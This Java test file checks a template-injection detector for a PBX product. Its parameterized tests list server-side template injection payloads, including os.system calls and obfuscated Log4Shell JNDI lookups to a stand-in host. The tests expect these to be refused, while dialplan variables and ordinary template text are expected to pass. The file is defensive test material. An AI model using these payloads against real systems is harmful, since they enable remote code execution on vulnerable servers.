package org.pbxguard.core.text.template;

import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import com.code_intelligence.jazzer.junit.FuzzTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.pbxguard.core.text.Place;
import org.pbxguard.core.text.Probe;
import org.pbxguard.core.text.Where;

class TemplateDetectorsTest {
  private final Probe probe =
      Probe.of(new ExpressionDetector(), new DirectiveDetector(), new LookupDetector());

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "{{7*7}}",
        "{{7*'7'}}",
        "${7*7}",
        "#{7*7}",
        "*{7*7}",
        "%{7*7}",
        "{{config}}",
        "{{config.items()}}",
        "{{''.__class__}}",
        "{{self._TemplateReference__context}}",
        "{{request.application.__globals__}}",
        "{{constructor.constructor(\"x\")()}}",
        "{% import os %}",
        "{% for c in x %}",
        "${T(java.lang.Runtime)}",
        "%{(#a=@x@y)}",
        "${self.module.cache.util.os.system(\"x\")}",
        "#set($x=7)",
        "<#assign x=7>",
        "{php}echo 7{/php}",
        "[[${7*7}]]",
        "{{_self.env.registerUndefinedFilterCallback(\"x\")}}",
        "{system(\"x\")}",
        "${jndi:ldap://h.example/x}",
        "${${lower:j}ndi:${lower:l}dap://h.example}",
        "${${::-j}${::-n}di:rmi://h.example}",
        "${${env:NONE:-j}ndi${env:NONE:-:}ldap://h.example}",
        "${jnd${upper:i}:dns://h.example}",
        "%24%7Bjndi:ldap://h.example}",
        "<%= 7*7 %>",
        "${env:HOME}",
        "__${7*7}__::x"
      })
  void inspect_attack_refused(String attack) {
    assertThat(probe.points(attack)).isGreaterThanOrEqualTo(Probe.REFUSED);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "${EXTEN}",
        "${EXTEN:1}",
        "${CALLERID(num)}",
        "${IF($[\"${a}\" = \"b\"]?c:d)}",
        "$[${a}+${b}]",
        "${DB(cidname/${CALLERID(num)})}",
        "${caller_id_number}",
        "${user_data ${destination_number}@${domain_name} var x}",
        "${VM-Message-Type}.wav",
        "$${sounds_dir}/en",
        "${regex(${x}|^(\\d+)$)}",
        "{{username}}",
        "{{ user.first_name }}",
        "Dear {{name}},",
        "{{item}} costs {{price}}",
        "${redir}",
        "${first}",
        "#{\"COLOR\":\"#2A1100\"}",
        "%{REMOTE_ADDR}",
        "{a: 1}",
        "*{}",
        "100% {sure}",
        "${SHELL(date)}",
        "${strftime(%Y)}",
        "${expr(7+${x})}",
        "${MATH(${x}*7)}",
        "@{user}",
        "%(1000,4000,425)",
        "#100 and {x}"
      })
  void inspect_ordinaryText_letThrough(String text) {
    assertThat(probe.points(text)).as(probe.rules(text).toString()).isLessThan(Probe.REFUSED);
  }

  @Test
  void inspect_uploadedFile_notRead() {
    assertThat(probe.points("{{7*7}}", Where.of(Place.FILE))).isZero();
    assertThat(probe.rules("${jndi:ldap://h.example/x}")).contains("jndi-lookup");
  }

  @FuzzTest(maxDuration = "1m")
  void inspect_anyText_neverFails(FuzzedDataProvider data) {
    assertThat(probe.rules(data.consumeRemainingAsString())).doesNotContain("text-detector-fault");
  }
}
